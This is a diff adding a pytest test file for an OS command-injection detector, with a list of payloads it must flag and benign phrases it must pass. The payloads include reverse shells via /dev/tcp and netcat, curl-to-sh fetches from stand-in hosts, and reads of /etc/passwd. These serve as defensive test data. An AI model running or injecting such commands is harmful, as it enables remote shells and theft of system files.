@@ -1,0 +1,60 @@
+"""OS command injection: separators, substitutions, evasions, and ordinary prose."""
+
+from __future__ import annotations
+
+import pytest
+
+from vigil.signatures.command import detect_command
+from vigil.signatures.detection import Attack
+
+ATTACKS = [
+    ("; cat /etc/passwd", "';' then command cat"),
+    ("| id", "'|' then command id"),
+    ("a;id", "';' then command id"),
+    ("x || whoami", "'||' then command whoami"),
+    ("&& c'u'rl http://x.test/s | sh", "'&&' then command curl"),
+    ("x|nc -e /bin/sh 192.0.2.1 80", "'|' then command nc"),
+    ("1\nwget http://x.test/a", "'newline' then command wget"),
+    ("$(whoami)", "substitution command whoami"),
+    ("`id`", "substitution command id"),
+    ("x`uname -a`", "substitution command uname"),
+    ("; ca\\t /etc/hosts", "';' then command cat"),
+    ("& ping -c 3 127.0.0.1", "'&' then command ping"),
+    ("| type c:\\boot.ini", "'|' then command type"),
+    ("1;sleep 5", "';' then command sleep"),
+    ("curl http://x.test/s.sh", "value starts with command curl"),
+    ("x${IFS}cat${IFS}/etc/passwd", "shell construct"),
+    ("() { :; }; echo vulnerable", "shell construct"),
+    ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "shell construct"),
+    ("cmd /c dir", "shell construct"),
+    ("powershell -enc SQBFAFgA", "shell construct"),
+]
+
+BENIGN = [
+    "rock & roll",
+    "Tom & Jerry",
+    "Tom & cat",
+    "R&D; id card required",
+    "cats | dogs",
+    "Run `ls -la` to list files",
+    "python is great",
+    "sudo make me a sandwich",
+    "I need some; sleep now",
+    "search?a=1&b=2",
+    "Q&A",
+    "hours: 9-5 | weekends closed",
+    "salt; pepper; more salt",
+]
+
+
+@pytest.mark.parametrize(("value", "reason"), ATTACKS, ids=[a for a, _ in ATTACKS])
+def test_attacks_are_detected_with_their_reason(value: str, reason: str) -> None:
+    found = detect_command(value)
+    assert found is not None, value
+    assert found.kind is Attack.COMMAND
+    assert found.reason == reason
+
+
+@pytest.mark.parametrize("value", BENIGN)
+def test_look_alikes_pass(value: str) -> None:
+    assert detect_command(value) is None
